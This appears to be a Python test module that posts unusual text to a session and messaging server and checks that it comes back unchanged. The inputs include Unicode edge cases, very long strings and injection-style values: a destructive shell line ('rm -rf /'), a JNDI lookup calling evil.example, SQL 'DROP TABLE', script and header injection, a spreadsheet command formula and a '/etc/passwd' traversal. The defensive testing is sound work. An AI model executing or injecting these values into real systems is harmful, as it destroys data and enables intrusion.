"""Text that is none of the server's business: it is taken as it is, and comes back so, byte for byte."""

from __future__ import annotations

import json

from tests.hostile.row import Row, command, packets

TEXTS = {
    "Arabic": "\u0627\u0644\u0637\u0627\u0628\u0639\u0629 \u0644\u0627 \u062a\u0639\u0645\u0644",
    "Hebrew with points": "\u05e9\u05b8\u05c1\u05dc\u05d5\u05b9\u05dd",
    "right to left among left to right": "a \u0627\u0644 b \u05e9\u05dc c 123",
    "overrides of direction": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "Chinese": "\u6253\u5370\u673a\u574f\u4e86",
    "Thai": "\u0e40\u0e04\u0e23\u0e37\u0e48\u0e2d\u0e07\u0e1e\u0e34\u0e21\u0e1e\u0e4c",
    "Hindi": "\u092a\u094d\u0930\u093f\u0902\u091f\u0930",
    "emoji": "\U0001f600\U0001f680\u2764\ufe0f",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "a flag and a skin tone": "\U0001f1e9\U0001f1ea\U0001f44d\U0001f3ff",
    "zero width alone": "\u200b",
    "zero width among letters": "pass\u200bword\u200c is\u200d x\u2060",
    "a soft hyphen": "Drucker\u00adwarteschlange",
    "a byte order mark": "\ufeffx\ufeff",
    "composed": "caf\u00e9 \u00c5",
    "decomposed": "cafe\u0301 A\u030a",
    "ligatures and full width": "\ufb01 \uff21\uff22 \u2460",
    "a hundred accents": "Z" + "\u0300\u0323\u034f" * 100,
    "Turkish i": "\u0130\u0131 I i",
    "sharp s": "STRA\u1e9eE stra\u00dfe",
    "noncharacters": "\uffff\ufffe\ufdd0 \U0001ffff",
    "private use": "\ue000 \U000f0000 \U0010ffff",
    "a replacement": "\ufffd",
    "control characters": "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x1f\x7f",
    "C1 controls": "\x80\x85\x9b\x9f",
    "line separators": "a\u2028b\u2029c\r\nd\re",
    "white space around": "  \t x \n ",
    "odd spaces": "\u00a0x\u2003y\u3000z\u180e",
    "an escape that is text": "\\u0000 \\ud800 \\x00 \\n \\\\",
    "quotes": '"\'`\u201e\u201c\u00ab\u00bb\\"',
    "markup": "<script>alert(1)</script><!--]]>&lt;&#0;",
    "SQL": "'; DROP TABLE messages; -- $1 %s ?",
    "a shell": "$(reboot) `id` ; rm -rf / | & > < \\",
    "formats": "%s %d %n %(x)s {0} {x!r} ${x} #{x} {{7*7}}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "JSON": '{"ok":true,"data":{}} [1,2,3] null',
    "a packet": '42["hello",{}] 43[] 40 41',
    "a frame": "\x1e4\x1e2probe",
    "a log line": "x\n2026-01-01T00:00:00Z ERROR forged level=critical",
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a formula": "=cmd|' /C calc'!A0",
    "names of JavaScript": "__proto__ constructor toString NaN Infinity undefined",
    "names of Python": "None True __class__ __import__('os')",
    "a number": "0",
    "a huge number": "9" * 150,
    "paths": "../../etc/passwd C:\\Windows\\System32 \\\\server\\share %2e%2e%2f",
    "every printable of ASCII": "".join(map(chr, range(32, 127))),
}

LONG = {
    "32,000 letters": "x" * 32_000,
    "15,000 emoji": "\U0001f600" * 15_000,
    "20,000 of Chinese": "\u4e00" * 20_000,
    "10,000 accents": "e" + "\u0301" * 10_000,
    "10,000 zero-width joiners": "x" + "\u200d" * 10_000,
    "10,000 quotes": '"' * 10_000,
    "10,000 backslashes": "\\" * 10_000,
    "10,000 open brackets": "([{<" * 2_500,
    "30,000 spaces": "x" + " " * 30_000 + "y",
    "10,000 lines": "x\n" * 10_000,
    "10,000 sentences": "No. " * 7_500,
    "5,000 questions": "Why? " * 5_000,
    "5,000 passwords": "password=" * 3_500,
    "words of passwords": "the password for the server is " * 1_000,
    "a dashed line": "-" * 30_000,
    "dots": "." * 30_000,
    "digits": "1" * 30_000,
    "addresses": "10.0.0.1." * 3_500,
    "hosts": "A-" * 15_000,
    "users": "a@a." * 7_500,
    "colons": "a:" * 15_000,
    "equal signs": "key=" * 7_500,
    "a private key that never ends": "-----BEGIN RSA PRIVATE KEY-----" + "-" * 30_000,
    "bearers": "bearer " * 4_500,
    "tokens": "eyJ" * 10_000,
    "URLs": "://a:" * 6_000,
    "quotations": "> " * 15_000,
    "list marks": "- [ ] " * 5_000,
    "fences": "```\n" * 7_500,
    "if and then": "if then else " * 2_400,
    "no and still": "still no change, " * 1_800,
    "capitals": "A" * 30_000,
    "times": "10:15 " * 5_000,
    "hexadecimal": "0x" * 15_000,
    "a password of capitals": "the password for the server is " + "A" * 30_000 + "!",
}
"""Long in a way that a pattern may take long over."""

PLACES = {
    "session:create": (
        "session",
        ("title", "client_name", "problem"),
        '"session_id":"$new","title":"T","client_name":"C","problem":"P"',
    ),
    "task:add": ("task", ("title", "detail"), '"session_id":"$texts","task_id":"$new","title":"T","detail":"D"'),
}
"""Commands that write text, the noun of their answer, the fields, and a payload that these are then put behind."""


def said(name: str, text: str, *, escaped: bool = False) -> Row:
    body = json.dumps(text, ensure_ascii=escaped)
    payload = f'{{"session_id":"$texts","message_id":"$new","kind":"client","body":{body}}}'
    return Row(
        f"{name}{', escaped' if escaped else ''}", command("message:post", payload), "ok", ("message.body", text)
    )


def placed(name: str, field: str, why: str, text: str) -> Row:
    noun, _, rest = PLACES[name]
    payload = f'{{{rest},"{field}":{json.dumps(text, ensure_ascii=False)}}}'
    return Row(f"{name} {field}: {why}", command(name, payload), "ok", (f"{noun}.{field}", text))


MESSAGES = [
    *(said(name, text) for name, text in TEXTS.items()),
    *(said(name, text, escaped=True) for name, text in TEXTS.items() if not text.isascii()),
    *(said(name, text) for name, text in LONG.items()),
]
"""All posted to one session, `$texts`, whose escalation then has to be summed up."""

FIELDS = [
    placed(name, field, why, text[:200])
    for name, (_, fields, _) in PLACES.items()
    for field in fields
    for why, text in TEXTS.items()
]


def escalated(name: str, text: str) -> Row:
    title, whole, ask = (json.dumps(part, ensure_ascii=False) for part in (text[:200], text, text[:4_000]))
    session = f'{{"session_id":"$fresh","title":{title},"client_name":{title},"problem":{whole}}}'
    message = f'{{"session_id":"$fresh","message_id":"$new","kind":"note","body":{whole}}}'
    handoff = (
        f'{{"handoff_id":"$new","session_id":"$fresh","severity":"low","reason":"skill","ask":{ask},"note":{ask}}}'
    )
    sent = (
        ("session:create", session),
        ("message:post", message),
        ("message:post", message),
        ("handoff:create", handoff),
    )
    written = (f'42{number}["{what}",{payload}]' for number, (what, payload) in enumerate(sent))
    return Row(f"escalated: {name}", packets(*written), "ok, ok, ok, ok", ("handoff.ask", text[:4_000]))


ESCALATIONS = [escalated(name, text) for name, text in (TEXTS | LONG).items()]
"""Each is a session of its own, `$fresh`, with nothing to be summed up but this text, said three times."""
EVENTS_OF_AN_ESCALATION = 5

ROWS = [*MESSAGES, *FIELDS, *ESCALATIONS]
